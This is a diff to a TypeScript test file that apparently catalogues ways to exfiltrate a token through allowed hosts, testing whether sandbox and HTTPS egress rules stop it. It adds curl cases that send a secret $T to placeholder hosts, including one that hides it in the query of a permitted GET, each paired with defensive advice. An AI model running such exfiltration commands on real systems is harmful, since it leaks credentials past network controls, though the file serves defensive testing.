@@ -7,6 +7,14 @@ const open: Open = {
   advice: 'allow no hosts that anyone can write to; tokens that can write to one repository only',
 }
 
+const query: Open = {
+  result: 'not-held',
+  why: 'HTTPS rules are about methods and paths: the query, headers and body of what they allow are not looked at',
+  advice: 'hosts whose logs no stranger reads',
+}
+
+const twin = curl('"https://rules.example.com/acme/$T"')
+
 const drops = [
   [
     'gist',
@@ -51,13 +59,31 @@ const drops = [
 export const allowedHosts: Row = {
   row: 25,
   title: 'An allowed host as the drop',
-  cases: drops.map(([id, words, what]) => ({
-    id: `drop-${id}`,
-    technique: what,
-    attempt: curl(words),
-    twin: curl('"https://good.example.com/acme/$T"'),
-    by: '–',
-    user: open,
-    root: open,
-  })),
+  cases: [
+    ...drops.map(([id, words, what]) => ({
+      id: `drop-${id}`,
+      technique: what,
+      attempt: curl(words),
+      twin: curl('"https://good.example.com/acme/$T"'),
+      by: '–',
+      user: open,
+      root: open,
+    })),
+    ...drops.map(([id, words, what]) => ({
+      id: `drop-ruled-${id}`,
+      technique: `${what}, at a host with HTTPS rules (GET below /acme)`,
+      attempt: curl(words.replace(/https:\/\/[^/]+/, 'https://rules.example.com')),
+      twin,
+      by: 'content: the writing process is ended before the request is encrypted',
+    })),
+    {
+      id: 'drop-ruled-allowed-query',
+      technique: 'the query of a GET that the HTTPS rules allow',
+      attempt: curl('"https://rules.example.com/acme/x?q=$T"'),
+      twin,
+      by: '–',
+      user: query,
+      root: query,
+    },
+  ],
 }
